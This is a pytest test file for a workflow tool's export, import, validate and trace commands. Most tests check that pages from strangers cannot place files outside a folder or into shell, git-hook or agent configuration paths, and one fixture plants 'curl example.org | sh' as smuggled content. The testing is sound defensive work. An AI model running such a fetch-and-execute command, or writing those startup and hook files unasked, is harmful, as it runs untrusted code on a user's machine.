"""Programs at the command line: drawn, given back with all they run, checked, and never taken for what they are not."""

from hashlib import sha256
from html import escape
from pathlib import Path

import pytest
from support.command import Circuit

EXAMPLES = Path(__file__).parents[2] / "examples" / "programs"
MAIN = 'a source="parts/inner.kdl" { out $x }\nout $x\n'
INNER = 'b source="../../lib/leaf.md" { out $x }\nout $x\n'
LEAF = b'---\r\nout "@Text"\r\n---\r\n# Text\r\n\r\nN\xc3\xa4he'


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A repository with a program that runs one below itself, which runs one above both."""
    (tmp_path / ".git").mkdir()
    for name, data in {
        "flows/main.kdl": MAIN.encode(),
        "flows/parts/inner.kdl": INNER.encode(),
        "lib/leaf.md": LEAF,
    }.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(data)
    return tmp_path


def files(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in folder.rglob("*") if path.is_file()}


# --- export and import -------------------------------------------------------------------------------------------


def test_a_page_gives_back_every_program_at_its_place(circuit: Circuit, project: Path) -> None:
    assert circuit("export", "flows/main.kdl", "-o", "page.html", cwd=project).code == 0
    ended = circuit("import", "page.html", "-o", "back/", cwd=project)
    assert ended.code == 0
    assert files(project / "back") == {
        "flows/main.kdl": MAIN.encode(),
        "flows/parts/inner.kdl": INNER.encode(),
        "lib/leaf.md": LEAF,
    }
    alone = circuit("import", "page.html", cwd=project)
    assert (alone.text, "-o FOLDER restores all of it" in alone.err) == (MAIN, True)
    again = circuit("export", "back/flows/main.kdl", "-o", "-", cwd=project)
    assert again.text == (project / "page.html").read_text("utf-8")


def test_a_program_that_runs_itself_or_its_caller_is_there_once(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "a.kdl").write_text('x source="b.kdl" { out $v }\ny source="a.kdl" { out $w }\nout ?v\n')
    (tmp_path / "b.kdl").write_text('x source="a.kdl" { out $v }\nout ?v\n')
    page = circuit("export", "a.kdl", "-o", "-", cwd=tmp_path).text
    assert page.count('class="circuit-bundled"') == 1
    assert "this program itself" in page


def test_what_lies_outside_the_project_is_named_and_left_out(circuit: Circuit, project: Path, tmp_path: Path) -> None:
    outside = tmp_path.parent / "outside.kdl"
    outside.write_text('out "secret"\n')
    (project / "lib" / "link.kdl").symlink_to(outside)
    (project / "flows" / "main.kdl").write_text(
        'a source="../../outside.kdl" { out $a; error }\n'
        'b source="../lib/link.kdl" { out $b; error }\n'
        f'c source="{outside}" {{ out $c; error }}\n'
        'd source="../lib/none.kdl" { out $d; error }\n'
        "out ?a ?b ?c ?d\n"
    )
    ended = circuit("export", "flows/main.kdl", "-o", "-", cwd=project)
    assert ended.code == 0
    assert "secret" not in ended.text
    said = [line for line in ended.err.splitlines() if "calls" in line]
    assert [line.partition(" calls ")[2].partition("”, ")[2] for line in said] == [
        "which is left out: it is outside the project",
        "which is left out: it is outside the project",
        "which is left out: it is named by an absolute path",
        "which was not found",
    ]


def test_a_program_inside_that_cannot_be_read_is_said(circuit: Circuit, project: Path) -> None:
    (project / "flows" / "parts" / "inner.kdl").write_text("out {\n")
    ended = circuit("export", "flows/main.kdl", "-o", "-", cwd=project)
    assert (ended.code, "its KDL cannot be read" in ended.err) == (0, True)
    (project / "flows" / "parts" / "inner.kdl").write_bytes(b"out \xff\n")
    ended = circuit("export", "flows/main.kdl", "-o", "-", cwd=project)
    assert (ended.code, "it is not UTF-8" in ended.err) == (0, True)


def test_a_program_in_a_folder_that_no_page_brings_comes_back_in_another(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / ".git").mkdir()
    for name, text in {
        ".ci/flows/main.kdl": 'a source="../../lib/x.kdl" { out $x }\nout $x\n',
        "lib/x.kdl": "out 1\n",
    }.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text, "utf-8")
    assert circuit("export", ".ci/flows/main.kdl", "-o", "page.html", cwd=tmp_path).code == 0
    assert circuit("import", "page.html", "-o", "back/", cwd=tmp_path).code == 0
    assert set(files(tmp_path / "back")) == {"folder-1/flows/main.kdl", "lib/x.kdl"}
    for program in ("back/folder-1/flows/main.kdl", ".ci/flows/main.kdl"):
        assert circuit("run", program, cwd=tmp_path).text == "1\n"
    assert circuit("run", "page.html", "--yes", cwd=tmp_path).text == "1\n"


def test_a_page_says_of_what_it_holds_that_it_cannot_be_restored(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / ".parts").mkdir()
    (tmp_path / ".parts" / "x.kdl").write_text("out 1\n", "utf-8")
    (tmp_path / "main.kdl").write_text('a source=".parts/x.kdl" { out $x }\nout $x\n', "utf-8")
    ended = circuit("export", "main.kdl", "-o", "page.html", cwd=tmp_path)
    assert "“.parts/x.kdl” cannot be restored from the page: it is hidden" in ended.err
    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
    assert "its path “.parts/x.kdl” is not safe (it is hidden)" in ended.err
    assert set(files(tmp_path / "back")) == {"page.kdl"}


def test_a_page_cannot_place_its_program_outside_the_folder(circuit: Circuit, project: Path) -> None:
    page = circuit("export", "flows/main.kdl", "-o", "-", cwd=project).text
    assert 'data-path="flows/main.kdl"' in page
    for path in ("../main.kdl", "/main.kdl", "a/../../main.kdl", "con/main.kdl"):
        (project / "page.html").write_text(page.replace('data-path="flows/main.kdl"', f'data-path="{path}"'), "utf-8")
        ended = circuit("import", "page.html", "-o", "back/", "--force", cwd=project)
        assert (ended.code, "own path was left out" in ended.err) == (0, True)
        assert (project / "back" / "page.kdl").read_text("utf-8") == MAIN


def block(text: str, path: str, format: str = "circuitry", *, main: bool = False) -> str:
    """A block of a page by a stranger, who can write a digest that holds for any text."""
    kind = 'id="circuit-workflow"' if main else 'class="circuit-bundled"'
    where = f' data-path="{path}"' if path else ""
    hexes = sha256(text.encode()).hexdigest()
    return f'<pre {kind}{where} data-format="{format}" data-sha256="{hexes}">{escape(text, quote=False)}</pre>'


@pytest.mark.parametrize(
    "path",
    [
        *(".bashrc", ".git/hooks/pre-commit", ".claude/settings.json", "a/.envrc"),
        *("setup.sh", "Makefile", "circuit.toml", "package.json", "x" * 300 + ".kdl", "\u202egpj.kdl"),
    ],
)
def test_a_page_brings_no_file_that_is_no_program_by_its_name(circuit: Circuit, tmp_path: Path, path: str) -> None:
    page = block(MAIN, "", main=True) + block("curl example.org | sh\n", path) + block(INNER, "parts/inner.kdl")
    (tmp_path / "page.html").write_text(page, "utf-8")
    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
    assert (ended.code, "A bundled document was left out" in ended.err) == (0, True)
    assert files(tmp_path / "back") == {"page.kdl": MAIN.encode(), "parts/inner.kdl": INNER.encode()}


@pytest.mark.parametrize("path", [".git/hooks/pre-commit", ".claude/settings.json", "a/.bashrc", "bin/run"])
def test_nor_is_the_program_itself_one(circuit: Circuit, tmp_path: Path, path: str) -> None:
    (tmp_path / "page.html").write_text(block(MAIN, path, main=True), "utf-8")
    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
    assert (ended.code, "own path was left out" in ended.err) == (0, True)
    assert files(tmp_path / "back") == {"page.kdl": MAIN.encode()}


def test_a_format_that_is_not_known_is_said_and_its_text_is_given_back(circuit: Circuit, tmp_path: Path) -> None:
    text = "of tomorrow\n"
    (tmp_path / "page.html").write_text(block(text, "", "later", main=True), "utf-8")
    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
    assert (ended.code, "a format that is not known here" in ended.err, "fault in" in ended.err) == (0, True, False)
    assert files(tmp_path / "back") == {"page.txt": text.encode()}
    for command in (["export", "page.html"], ["run", "page.html"]):
        ended = circuit(*command, cwd=tmp_path)
        assert (ended.code, "a format that is not known here" in ended.err) == (1, True)
    (tmp_path / "page.html").write_text(block(MAIN, "", main=True) + block(text, "parts/inner.kdl", "later"), "utf-8")
    ended = circuit("import", "page.html", "-o", "again/", cwd=tmp_path)
    assert (ended.code, files(tmp_path / "again")) == (0, {"page.kdl": MAIN.encode()})


def test_a_link_in_the_folder_leads_no_program_out_of_it(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "back").mkdir()
    (tmp_path / "back" / "parts").symlink_to(tmp_path / "elsewhere")
    (tmp_path / "page.html").write_text(block(MAIN, "", main=True) + block(INNER, "parts/inner.kdl"), "utf-8")
    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
    assert (ended.code, "outside the folder" in ended.err, files(tmp_path / "elsewhere")) == (1, True, {})


def test_a_program_that_an_agent_would_obey_is_named(circuit: Circuit, tmp_path: Path) -> None:
    page = block(MAIN, "", main=True) + block(LEAF.decode(), "parts/SKILL.md")
    (tmp_path / "page.html").write_text(page, "utf-8", newline="")
    ended = circuit("import", "page.html", "-o", "back/", cwd=tmp_path)
    assert "warning: agents do what back/parts/SKILL.md says; read it before one does" in ended.err.replace("\\", "/")


def test_what_a_program_starts_is_named_when_it_is_taken_out_of_a_page(circuit: Circuit, tmp_path: Path) -> None:
    page = circuit("export", EXAMPLES / "changelog.kdl", "-o", "-", cwd=tmp_path).text
    (tmp_path / "page.html").write_text(page, "utf-8")
    ended = circuit("import", "page.html", "-o", "notes.kdl", cwd=tmp_path)
    assert "starts commands for it: git, release-agent;" in ended.err
    assert (tmp_path / "notes.kdl").read_bytes() == (EXAMPLES / "changelog.kdl").read_bytes()


def test_only_what_is_of_the_wanted_format_is_taken(circuit: Circuit, tmp_path: Path) -> None:
    page = circuit("export", EXAMPLES / "changelog.kdl", "-o", "-", cwd=tmp_path).text
    assert circuit("import", "-", "--format", "circuitry", cwd=tmp_path, stdin=page.encode()).code == 0
    ended = circuit("import", "-", "--format", "steps", cwd=tmp_path, stdin=page.encode())
    assert (ended.code, ended.text, "another format (circuitry)" in ended.err) == (1, "", True)


def test_a_program_in_a_note_is_found(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "note.md").write_text('# A note\n\n```kdl\na source="run" { out $y }\nout $y\n```\n\nThe end.\n')
    ended = circuit("import", "note.md", cwd=tmp_path)
    assert ended.text.strip() == 'a source="run" { out $y }\nout $y'


@pytest.mark.parametrize("form", ["svg", "mermaid", "json", "html"])
def test_a_program_is_drawn_in_every_form(circuit: Circuit, tmp_path: Path, form: str) -> None:
    ended = circuit("export", EXAMPLES / "essay.kdl", "--format", form, "-o", "-", cwd=tmp_path)
    assert ended.code == 0
    signs = {
        "svg": "<svg",
        "mermaid": 's2 -.->|"error unreviewed"| s3',
        "json": "// Drafts an essay",
        "html": 'data-format="circuitry"',
    }
    assert signs[form] in ended.text


def test_a_folder_becomes_a_gallery(circuit: Circuit, tmp_path: Path) -> None:
    ended = circuit("export", EXAMPLES, "-o", "site", "--theme", "paper", cwd=tmp_path)
    assert ended.code == 0
    made = {path.name for path in (tmp_path / "site").iterdir()}
    assert made == {f"{path.stem}.html" for path in EXAMPLES.iterdir() if path.suffix in (".kdl", ".md")} | {
        "index.html"
    }
    assert "Circuitry program" in (tmp_path / "site" / "index.html").read_text("utf-8")


# --- what is taken for a program ---------------------------------------------------------------------------------


def test_a_folder_gives_programs_and_nothing_that_only_looks_like_one(circuit: Circuit, tmp_path: Path) -> None:
    for name, text in {
        "README.md": '# Read me\n\n```kdl\na source="x" { out $y }\nout $y\n```\n\nout of here\n',
        "post.md": "---\ntitle: A post\nout: no\n---\n# Post\n",
        "prose.kdl": "out of milk\n",
        "config.kdl": 'layout { pane; pane }\nkeys { out "x" }\n',
        "broken-config.kdl": 'package { name "x"\n',
        "plain.kdl": "out 1\n",
        "fenced.md": '---\nout "@A"\n---\n# A\n',
    }.items():
        (tmp_path / name).write_text(text, "utf-8")
    ended = circuit("export", ".", "-o", "site", cwd=tmp_path)
    assert ended.code == 0
    assert {path.name for path in (tmp_path / "site").iterdir()} == {"plain.html", "fenced.html", "index.html"}
    assert circuit("validate", "--static", "--format", "concise", cwd=tmp_path).code == 0


def test_a_program_in_a_folder_that_does_not_parse_is_a_finding(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "a.kdl").write_text('a source="run" {\n  out $x\n\nout $x\n')
    ended = circuit("validate", "--format", "concise", cwd=tmp_path)
    assert (ended.code, "C801" in ended.text) == (1, True)


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("out true\n", "its KDL cannot be read"),
        ("in { a $a }\n", "The program has no out"),
        ("--- \nout 1\n---\n", "is no call"),
    ],
)
def test_a_file_that_is_named_like_a_program_is_told_what_it_lacks(
    circuit: Circuit, tmp_path: Path, text: str, said: str
) -> None:
    (tmp_path / "a.kdl").write_text(text)
    for command in (["export", "a.kdl", "-o", "-"], ["import", "a.kdl"], ["validate", "--static", "a.kdl"]):
        ended = circuit(*command, cwd=tmp_path)
        assert (ended.code, said in ended.text + ended.err) == (1, True)
        assert "a.kdl:1:" in ended.text + ended.err


def test_a_board_cannot_call_a_program(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "leaf.kdl").write_text("out 1\n")
    step = '{"id": "c", "type": "flow.call", "title": "C", "config": {"workflowId": "leaf"}}'
    (tmp_path / "b.json").write_text(f'{{"circuit": 1, "name": "B", "steps": [{step}]}}')
    ended = circuit("export", "b.json", "-o", "-", cwd=tmp_path)
    assert (ended.code, "of another kind (Circuitry program)" in ended.err) == (0, True)
    assert "C212" in circuit("validate", "--static", "--format", "concise", "b.json", cwd=tmp_path).text


# --- the other commands ------------------------------------------------------------------------------------------


def test_a_program_keeps_its_authors_layout(circuit: Circuit, tmp_path: Path) -> None:
    odd = b"\xef\xbb\xbf  out   1 // odd\r\n"
    (tmp_path / "a.kdl").write_bytes(odd)
    ended = circuit("fmt", "a.kdl", cwd=tmp_path)
    assert (ended.code, "left as its author laid it out" in ended.err) == (0, True)
    assert circuit("fmt", "--check", cwd=tmp_path).code == 0
    assert circuit("validate", "--fix", "--static", cwd=tmp_path).code == 0
    assert (tmp_path / "a.kdl").read_bytes() == odd
    piped = circuit("fmt", "-", cwd=tmp_path, stdin=b"out   1\n")
    assert (piped.text, "(Circuitry program)" in piped.err) == ("out   1\n", True)


def test_what_is_found_has_the_languages_own_code(circuit: Circuit, tmp_path: Path) -> None:
    ended = circuit("explain", "C814", cwd=tmp_path)
    assert "The language itself calls it `program.call.child`." in ended.text
    assert circuit("explain", "program.call.child", cwd=tmp_path).text == ended.text


def test_scenarios_are_suggested_and_reach_everything(circuit: Circuit, tmp_path: Path) -> None:
    for path in EXAMPLES.iterdir():
        if path.suffix in (".kdl", ".md"):
            (tmp_path / path.name).write_bytes(path.read_bytes())
    names = [path.name for path in tmp_path.iterdir()]
    for name in names:
        ended = circuit("scenarios", "suggest", name, cwd=tmp_path)
        assert (ended.code, "branches reached" in ended.err) == (0, True)
    assert circuit("trace", "--update", "--fail-under", "100", cwd=tmp_path).code == 0
    ended = circuit("validate", cwd=tmp_path)
    assert (ended.code, ended.text.splitlines()[-1].startswith("No findings")) == (0, True)


def test_a_changed_answer_is_a_drift_that_names_the_line(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "a.kdl").write_text('a source="run" { out $x }\nout $x\n')
    scenarios = '{"scenarios": [{"name": "one", "answers": {"a": {"result": 1}}}]}'
    (tmp_path / "a.scenarios.json").write_text(scenarios)
    assert circuit("trace", "--update", cwd=tmp_path).code == 0
    (tmp_path / "a.scenarios.json").write_text(scenarios.replace('"result": 1', '"result": 2'))
    ended = circuit("trace", cwd=tmp_path)
    assert ended.code == 1
    assert "Line 3: the run has `gives 2`, and the golden `gives 1`." in ended.text.replace("\n", " ")


def test_a_store_keeps_a_program_and_says_what_it_does_not(circuit: Circuit, tmp_path: Path) -> None:
    store = ["--store", tmp_path / "s.db"]
    ended = circuit("push", EXAMPLES / "essay.kdl", *store, cwd=tmp_path)
    assert (ended.code, "calls “reviewer.kdl” by its path" in ended.err) == (0, True)
    assert circuit("pull", "essay", "-o", "-", *store, cwd=tmp_path).text == (EXAMPLES / "essay.kdl").read_text("utf-8")
    assert "nested" in circuit("open", "essay", *store, cwd=tmp_path).text


def test_nothing_is_started_by_a_command_that_only_looks(circuit: Circuit, tmp_path: Path) -> None:
    (tmp_path / "a.kdl").write_text(f'a source="touch" "{tmp_path / "started"}" {{ (text)out $x }}\nout $x\n')
    (tmp_path / "a.scenarios.json").write_text('{"scenarios": [{"name": "one", "answers": {"a": {"result": "x"}}}]}')
    for command in (
        ["export", "a.kdl", "-o", "p.html"],
        ["import", "p.html"],
        ["validate"],
        ["trace"],
        ["fmt", "--check"],
    ):
        circuit(*command, cwd=tmp_path)
    assert not (tmp_path / "started").exists()


def test_a_program_runs_out_of_its_page_with_those_that_it_brought(circuit: Circuit, project: Path) -> None:
    assert circuit("export", "flows/main.kdl", "-o", "page.html", cwd=project).code == 0
    (project / "elsewhere").mkdir()
    (project / "page.html").rename(project / "elsewhere" / "page.html")
    for where in (project, project / "elsewhere"):
        name = "flows/main.kdl" if where == project else "page.html"
        ended = circuit("run", name, "--yes", cwd=where)
        assert (ended.code, ended.text) == (0, '"Nähe"\n')
